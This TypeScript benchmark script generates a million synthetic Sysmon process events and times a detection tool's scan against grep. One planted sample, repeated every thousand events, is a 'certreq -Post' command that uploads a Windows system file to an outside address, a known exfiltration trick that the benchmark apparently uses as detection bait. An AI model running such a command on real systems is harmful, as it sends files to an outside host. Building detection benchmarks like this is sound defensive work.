/**
 * Scan throughput on a generated NDJSON file of 1,000,000 ECS (Winlogbeat after the ingest pipeline) Sysmon
 * process events, beside `grep -c` on the same file (the floor for touching every byte). Peak RSS from GNU time.
 * Env: PROCWATCH_BENCH_EVENTS to change the event count.
 */
import { createWriteStream, existsSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { once } from 'node:events';
import { dataDir, fmt, REPO, timeCommand } from './lib.js';

const EVENTS = Number(process.env['PROCWATCH_BENCH_EVENTS'] ?? 1_000_000);

const IMAGES = [
  ['C:\\Windows\\System32\\svchost.exe', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Windows\\System32\\cmd.exe', 'Cmd.Exe', 'cmd.exe /c "dir C:\\Users\\Public > C:\\Temp\\out.txt"'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1234,i,5678 --lang=en-US'],
  ['C:\\Windows\\System32\\conhost.exe', 'CONHOST.EXE', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  ['C:\\Windows\\System32\\certutil.exe', 'CertUtil.exe', 'certutil -verify -urlfetch C:\\certs\\server.cer'],
];
const CERTREQ = ['C:\\Windows\\System32\\certreq.exe', 'CertReq.exe', 'certreq -Post -config https://198.51.100.7/upload C:\\Windows\\win.ini C:\\Users\\Public\\resp.txt'];

function ecsEvent(i: number): string {
  const [exe, ofn, cmd] = i % 1000 === 999 ? CERTREQ : IMAGES[i % IMAGES.length]!;
  const t = new Date(Date.UTC(2024, 4, 1) + i * 37).toISOString();
  const host = `WS${String(i % 97).padStart(3, '0')}.corp.example`;
  const guid = `{9F32B55F-7C4E-5F98-${(i % 65536).toString(16).padStart(4, '0').toUpperCase()}-${String(i).padStart(12, '0')}}`;
  return JSON.stringify({
    '@timestamp': t,
    event: { action: 'Process creation', category: ['process'], code: '1', kind: 'event', module: 'sysmon', provider: 'Microsoft-Windows-Sysmon', type: ['start'] },
    host: { name: host },
    process: {
      command_line: cmd, entity_id: guid, executable: exe, name: exe!.split('\\').pop(), pid: 1000 + (i % 60000),
      pe: { original_file_name: ofn, company: 'Microsoft Corporation' },
      parent: { command_line: 'C:\\Windows\\Explorer.EXE', entity_id: '{9F32B55F-6FDF-5F98-7000-000000000500}', executable: 'C:\\Windows\\explorer.exe', name: 'explorer.exe', pid: 4212 },
      hash: { sha256: 'b6d237154f2e528f0b503b58b025862d66b02b73b6d237154f2e528f0b503b58' },
      working_directory: 'C:\\Users\\alice\\',
    },
    user: { domain: 'CORP', name: 'alice', id: 'S-1-5-21-1-2-3-1001' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational', computer_name: host, event_id: '1', provider_name: 'Microsoft-Windows-Sysmon',
      record_id: String(i + 1), event_data: { IntegrityLevel: 'Medium', LogonId: '0x2c9e7', TerminalSessionId: '1' },
    },
  });
}

async function generate(path: string): Promise<void> {
  const out = createWriteStream(path);
  let buf: string[] = [];
  for (let i = 0; i < EVENTS; i++) {
    buf.push(ecsEvent(i));
    if (buf.length === 5000) {
      if (!out.write(`${buf.join('\n')}\n`)) await once(out, 'drain');
      buf = [];
    }
  }
  if (buf.length) out.write(`${buf.join('\n')}\n`);
  out.end();
  await once(out, 'finish');
}

async function main(): Promise<void> {
  const file = join(dataDir(), `ecs-${EVENTS}.ndjson`);
  if (!existsSync(file)) {
    console.log(`generating ${EVENTS.toLocaleString()} ECS process events → ${file}`);
    await generate(file);
  }
  const mb = statSync(file).size / 1e6;
  const grep = timeCommand(['grep', '-c', '-i', 'certreq', file], { repeat: 3 });
  const scan = timeCommand([process.execPath, join(REPO, 'bin', 'procwatch.js'), 'scan', file, '--format', 'jsonl', '--quiet', '--no-progress'], { repeat: 2, stdoutToNull: true });
  if (scan.status !== 0) console.log(`scan exited ${scan.status}: ${scan.stderr.slice(0, 500)}`);
  const expected = Math.floor(EVENTS / 1000);
  console.log(`input: ${EVENTS.toLocaleString()} events, ${fmt(mb)} MB (ECS NDJSON; ${expected} certreq events)`);
  console.log(`tool                         seconds   events/s      MB/s    peak RSS MB`);
  const line = (name: string, t: { seconds: number; maxRssMb: number }): string =>
    `${name.padEnd(28)} ${fmt(t.seconds, 2).padStart(7)} ${fmt(EVENTS / t.seconds, 0).padStart(11)} ${fmt(mb / t.seconds).padStart(9)} ${fmt(t.maxRssMb, 0).padStart(12)}`;
  console.log(line('grep -c -i certreq', grep));
  console.log(line('procwatch scan (built-in)', scan));
  console.log(`ratio: procwatch scan takes ${fmt(scan.seconds / grep.seconds, 1)}× the time of grep -c`);
}

await main();
